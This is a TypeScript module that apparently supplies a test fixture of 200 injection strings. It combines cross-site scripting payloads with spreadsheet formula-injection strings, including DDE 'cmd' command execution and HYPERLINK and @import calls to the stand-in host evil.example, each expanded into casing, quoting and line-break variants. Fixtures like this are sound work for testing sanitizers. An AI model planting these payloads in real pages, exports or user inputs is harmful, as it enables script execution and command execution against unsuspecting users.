const scripts = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '<a href="javascript:alert(1)">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<style>@import "//evil.example"</style>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<!--><script>alert(1)</script-->',
  '\u202e<script>alert(1)</script>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
];
const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  "=cmd|' /C calc'!A0",
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1',
  '\uff1d1',
  '=HYPERLINK("//evil.example")',
  '+cmd|"/C"!A0',
];

/** 200 ways to be run: each bare, with text around, in capitals, twice, and with line ends. */
export const payloads: readonly string[] = [...scripts, ...formulas]
  .flatMap(one => [
    one,
    `${one} so`,
    one.toUpperCase(),
    `${one}${one}`,
    `${one}\r\n${one}`,
    `"${one}"`,
    `${one},${one}`,
    `a\n${one}`,
  ])
  .slice(0, 200);
